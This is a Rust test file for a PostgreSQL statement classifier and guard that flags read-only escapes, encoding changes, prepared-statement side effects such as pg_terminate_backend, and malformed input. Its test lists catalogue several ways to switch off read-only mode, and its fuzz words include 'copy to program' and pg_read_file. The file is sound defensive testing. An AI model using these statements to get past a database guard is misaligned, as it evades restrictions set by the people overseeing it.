    for sql in [
        "set default_transaction_read_only = off",
        "set default_transaction_read_only to false",
        "SET SESSION default_transaction_read_only = 0",
        "set transaction_read_only = off",
        "reset default_transaction_read_only",
        "set default_transaction_read_only to default",
        "set transaction read write",
        "set session characteristics as transaction read write",
        "begin read write",
        "begin isolation level serializable, read write",
        "start transaction read write",
        "reset all",
        "discard all",
        "select set_config('default_transaction_read_only', 'off', false)",
        "select set_config('transaction_read_only', 'off', true)",
    ] {
        assert!(one(sql).read_only_change, "{sql}");
    }
    for sql in [
        "set default_transaction_read_only = on",
        "set transaction read only",
        "begin read only",
        "begin",
        "start transaction isolation level repeatable read",
        "set search_path = x",
        "discard plans",
        "select set_config('default_transaction_read_only', 'on', false)",
    ] {
        assert!(!one(sql).read_only_change, "{sql}");
    }
}

#[test]
fn lexer_changes() {
    for sql in [
        "set client_encoding = 'SJIS'",
        "set names 'GBK'",
        "set client_encoding to 'BIG5'",
        "set standard_conforming_strings = off",
        "set backslash_quote = on",
        "select set_config('client_encoding', 'sjis', false)",
    ] {
        assert!(one(sql).lexer_change, "{sql}");
    }
    for sql in [
        "set client_encoding = 'UTF8'",
        "set names 'utf-8'",
        "set standard_conforming_strings = on",
        "set backslash_quote = safe_encoding",
        "reset client_encoding",
    ] {
        assert!(!one(sql).lexer_change, "{sql}");
    }
}

#[test]
fn prepare_carries_the_prepared_statement() {
    let f = one("prepare del(int) as delete from t where id = $1");
    assert_eq!((f.class, f.command.as_str()), (C::Session, "PREPARE"));
    assert_eq!(f.tables, vec![TableRef::new(None, "t")]);
    match &f.prepared {
        Some(PreparedRef::Prepare { name, statement }) => {
            assert_eq!(name, "del");
            assert_eq!(statement.class, C::Write);
            assert_eq!(statement.where_clause, Some(WhereFacts::Present));
        }
        other => panic!("{other:?}"),
    }
    // Nothing runs at PREPARE time.
    assert!(f.writes.is_empty());
    let f = one("prepare p as select pg_terminate_backend(1)");
    assert!(f.side_effect_functions.is_empty());
}

#[test]
fn execute_names_the_prepared_statement() {
    let f = one("execute del(1)");
    assert_eq!(
        f.prepared,
        Some(PreparedRef::Execute { name: "del".into() })
    );
    let f = one("explain analyze execute del(1)");
    assert_eq!(
        f.prepared,
        Some(PreparedRef::Execute { name: "del".into() })
    );
    let f = one("explain execute del(1)");
    assert_eq!(f.prepared, None);
    let f = one("create table x as execute del(1)");
    assert_eq!(f.class, C::Ddl);
    assert_eq!(
        f.prepared,
        Some(PreparedRef::Execute { name: "del".into() })
    );
    // Parameters are evaluated when it runs.
    let f = one("execute p(pg_terminate_backend(1))");
    assert_eq!(f.side_effect_functions, vec!["pg_terminate_backend"]);
    let f = one("deallocate p");
    assert_eq!(
        f.prepared,
        Some(PreparedRef::Deallocate {
            name: Some("p".into())
        })
    );
}

#[test]
fn stored_bodies_do_not_run_at_definition() {
    for sql in [
        "create view v as select pg_terminate_backend(1)",
        "create rule r as on insert to t do instead delete from u",
        "create function f() returns void language sql begin atomic delete from u; end",
        "create table t (id int default nextval('s'))",
    ] {
        let f = one(sql);
        assert!(f.side_effect_functions.is_empty(), "{sql}");
        assert!(f.writes.is_empty(), "{sql}");
        assert_eq!(f.class, C::Ddl, "{sql}");
    }
}

#[test]
fn normalized_text_drops_comments_and_collapses_whitespace() {
    let f = one("select   a, /* pick b */ b\n\tfrom t -- the table\n where x = 'a  b'");
    assert_eq!(f.normalized, "select a, b from t where x = 'a b'");
    // Comment markers inside literals are not comments.
    let f = one("select '--x' , '/*y*/'");
    assert_eq!(f.normalized, "select '--x' , '/*y*/'");
}

#[test]
fn classifier_caches_by_text_and_stays_bounded() {
    // Two statements per text, so that no shape stands in for the text cache.
    let classifier = Classifier::new(8);
    let a = classifier.classify("select 1; select 0");
    let b = classifier.classify("select 1; select 0");
    assert!(Arc::ptr_eq(&a, &b));
    assert_eq!(classifier.len(), 1);
    for i in 0..100 {
        classifier.classify(&format!("select {i}; select 0"));
        assert!(classifier.len() <= 8, "{}", classifier.len());
    }
    // Recently used entries survive rotation.
    let hot = classifier.classify("select 99; select 0");
    for i in 100..103 {
        classifier.classify(&format!("select {i}; select 0"));
    }
    assert!(Arc::ptr_eq(
        &hot,
        &classifier.classify("select 99; select 0")
    ));
    // Oversized text is classified but not kept.
    let big = format!("select 1 {}", " ".repeat(Classifier::MAX_CACHED_LEN));
    let before = classifier.len();
    assert_eq!(classifier.classify(&big)[0].class, C::Read);
    assert!(classifier.len() <= before);
}

/// Texts of one shape whose facts must differ: the first is classified (and cached) before
/// the second, and the second must get what a fresh parse gives.
#[test]
fn a_cached_shape_never_stands_for_a_text_whose_constants_change_the_facts() {
    let pairs = [
        // The one constant the filter rule reads: a LIKE pattern of only `%`.
        (
            "delete from t where name like 'a%'",
            "delete from t where name like '%'",
        ),
        // Setting names and values, and option values.
        (
            "select set_config('application_name', 'x', false)",
            "select set_config('default_transaction_read_only', 'off', false)",
        ),
        (
            "select set_config('application_name', 'x', false)",
            "select set_config('standard_conforming_strings', 'off', false)",
        ),
        (
            "set application_name = 'x'",
            "set default_transaction_read_only = 'off'",
        ),
        (
            "explain (analyze 0) delete from t",
            "explain (analyze 1) delete from t",
        ),
        // A Unicode escape decides what the identifier is.
        (
            r#"select * from U&"x!0061" UESCAPE '#'"#,
            r#"select * from U&"x!0061" UESCAPE '!'"#,
        ),
    ];
    for (first, second) in pairs {
        let classifier = Classifier::default();
        classifier.classify(first);
        let cached = classifier.classify(second);
        assert_eq!(*cached, *classify(second), "{first} then {second}");
        // Facts apart from where the text is and how it reads.
        let decisive = |facts: &[StatementFacts]| -> Vec<StatementFacts> {
            facts
                .iter()
                .map(|f| StatementFacts {
                    span: 0..0,
                    normalized: String::new(),
                    ..f.clone()
                })
                .collect()
        };
        assert_ne!(
            decisive(&classify(first)),
            decisive(&cached),
            "the pair does not differ in facts, so it tests nothing: {first} / {second}"
        );
    }
}

#[test]
fn texts_differing_only_in_compared_constants_share_a_shape() {
    let classifier = Classifier::default();
    let first = classifier.classify("SELECT abalance FROM pgbench_accounts WHERE aid = 1;");
    let other = "  SELECT abalance FROM pgbench_accounts /* c */ WHERE aid = 20000 ;";
    let second = classifier.classify(other);
    assert_eq!(classifier.shapes(), 1);
    assert_eq!(*second, *classify(other));
    assert_eq!(second[0].span, 2..other.find(" ;").unwrap());
    assert_eq!(first[0].class, second[0].class);
    for sql in [
        "update pgbench_accounts set abalance = abalance + 5 where aid = 7",
        "insert into pgbench_history (tid, bid, aid, delta, mtime) values (1, 2, 3, 4, now())",
        "delete from t where id between 1 and 9 and name in ('a', 'b')",
        "select * from t where -1 < id",
        "delete from t where 1 = 1",
        "delete from t where id = 1 or 2 = 2",
    ] {
        let classifier = Classifier::default();
        classifier.classify(sql);
        assert_eq!(classifier.shapes(), 1, "{sql} is not shareable");
    }
    // Not shareable: several statements, session changes, side effects, a LIKE pattern
    // that decides whether a filter selects rows.
    for sql in [
        "select 1; select 2",
        "set application_name = 'x'",
        "select nextval('s')",
        "delete from t where name like '%'",
    ] {
        let classifier = Classifier::default();
        classifier.classify(sql);
        assert_eq!(classifier.shapes(), 0, "{sql} was shared");
    }
}

#[test]
fn classifier_is_shareable_between_threads() {
    let classifier = Arc::new(Classifier::default());
    let handles: Vec<_> = (0..4)
        .map(|t| {
            let classifier = classifier.clone();
            std::thread::spawn(move || {
                for i in 0..200 {
                    let sql = format!("select {} from t{}", i % 50, t % 2);
                    assert_eq!(classifier.classify(&sql)[0].class, C::Read);
                }
            })
        })
        .collect();
    for h in handles {
        assert!(h.join().is_ok());
    }
    assert!(classifier.len() <= 100);
}

/// Property: no input panics; every result is either exactly one `Unknown` covering the
/// whole text, or well-formed facts with in-bounds spans. Deterministic seeds, so a failure
/// reproduces.
#[test]
fn random_input_never_panics() {
    const WORDS: &[&str] = &[
        "select",
        "from",
        "where",
        "delete",
        "update",
        "set",
        "insert",
        "into",
        "values",
        "with",
        "as",
        "(",
        ")",
        ",",
        ";",
        "'",
        "\"",
        "$$",
        "$a$",
        "--",
        "/*",
        "*/",
        "t",
        "x",
        "1",
        "=",
        "or",
        "and",
        "not",
        "true",
        "copy",
        "to",
        "program",
        "explain",
        "analyze",
        "prepare",
        "execute",
        "do",
        "begin",
        "role",
        "pg_read_file",
        "::",
        "[",
        "]",
        "*",
        "e'\\'",
        "\n",
        "union",
        "returning",
        "merge",
        "using",
        "on",
        "when",
        "matched",
        "then",
        "null",
        "is",
    ];
    let mut rng = StdRng::seed_from_u64(0x5105_cafe);
    for round in 0..20_000 {
        let sql = if round % 2 == 0 {
            let len = rng.random_range(0..64);
            let bytes: Vec<u8> = (0..len).map(|_| rng.random()).collect();
            String::from_utf8_lossy(&bytes).into_owned()
        } else {
            let len = rng.random_range(0..24);
            (0..len)
                .map(|_| WORDS[rng.random_range(0..WORDS.len())])
                .collect::<Vec<_>>()
                .join(" ")
        };
        check_well_formed(&sql);
    }
}

fn check_well_formed(sql: &str) {
    use crate::guard::{GuardPolicy, Profile, Verdict};
    let facts = classify(sql);
    if facts.iter().any(|f| f.class == C::Unknown) {
        assert_eq!(facts.len(), 1, "{sql:?}");
        assert_eq!(facts[0].span, 0..sql.len(), "{sql:?}");
        assert!(facts[0].parse_error.is_some(), "{sql:?}");
        for profile in [Profile::ReadOnly, Profile::GuardedWrite] {
            let verdict = GuardPolicy::new(profile).decide(&facts);
            assert!(
                matches!(verdict, Verdict::Block { .. }),
                "{sql:?}: {verdict:?}"
            );
        }
        return;
    }
    for profile in Profile::ALL {
        let _ = GuardPolicy::new(profile).decide(&facts);
    }
    for f in &facts {
        assert!(
            f.span.start <= f.span.end && f.span.end <= sql.len(),
            "{sql:?}"
        );
        assert!(sql.get(f.span.clone()).is_some(), "{sql:?}");
        assert!(!f.command.is_empty(), "{sql:?}");
    }
}

#[test]
fn deep_nesting_is_refused_not_crashed() {
    for depth in [10, 100, 1_000, 10_000] {
        let sql = format!("select {}1{}", "(".repeat(depth), ")".repeat(depth));
        check_well_formed(&sql);
        let sql = format!("select {}1{}", "abs(".repeat(depth), ")".repeat(depth));
        check_well_formed(&sql);
        let sql = format!("select 1{}", " + 1".repeat(depth));
        check_well_formed(&sql);
        let sql = format!("select {}1", "- ".repeat(depth));
        check_well_formed(&sql);
    }
}

/// The generated walker reaches every node of the tree: over the regression corpus, the
/// number of nodes it visits equals the number of parse-tree messages counted generically
/// through pg_query's serde serialization (which knows every field of every message).
#[test]
fn walker_visits_every_message_of_the_corpus() {
    let path = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data/pg-regress-statements.jsonl");
    let corpus = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("corpus missing at {}: {e}", path.display()));
    let mut checked = 0;
    // Every 4th statement keeps the debug-build run short; all node types still occur.
    for line in corpus.lines().step_by(4) {
        let Ok(case) = serde_json::from_str::<serde_json::Value>(line) else {
            continue;
        };
        let Some(sql) = case["sql"].as_str() else {
            continue;
        };
        let Ok(tree) = pg_query::parse(sql, 0) else {
            continue;
        };
        let mut walked = 0usize;
        for raw in &tree.protobuf.stmts {
            if let Some(stmt) = raw.stmt.as_ref().and_then(|s| s.node.as_ref()) {
                walked += count_walked(stmt.to_ref());
            }
        }
        let json = serde_json::to_value(&tree.protobuf).unwrap_or_default();
        // Messages = objects that are not `Node` wrappers, not enum tags, not A_Const values;
        // minus the ParseResult and RawStmt envelopes the walker starts below.
        let messages = count_messages(&json, false) - 1 - tree.protobuf.stmts.len();
        assert_eq!(walked, messages, "{sql}");
        checked += 1;
    }
    assert!(checked > 10_000, "{checked}");
}

fn count_walked(node: pg_query::NodeRef<'_>) -> usize {
    let mut n = 1;
    super::walk::for_each_child(node, &mut |child| n += count_walked(child));
    n
}

fn count_messages(value: &serde_json::Value, const_value: bool) -> usize {
    const CONST_TAGS: [&str; 5] = ["Ival", "Fval", "Boolval", "Sval", "Bsval"];
    match value {
        serde_json::Value::Object(map) => {
            let children: usize = map
                .iter()
                .map(|(k, v)| count_messages(v, CONST_TAGS.contains(&k.as_str())))
                .sum();
            let is_wrapper = map.len() == 1 && map.contains_key("node");
            let is_tag = map.len() == 1
                && map
                    .keys()
                    .all(|k| k.starts_with(|c: char| c.is_ascii_uppercase()));
            let own = usize::from(!is_wrapper && !is_tag && !const_value);
            own + children
        }
        serde_json::Value::Array(items) => items.iter().map(|v| count_messages(v, false)).sum(),
        _ => 0,
    }
}
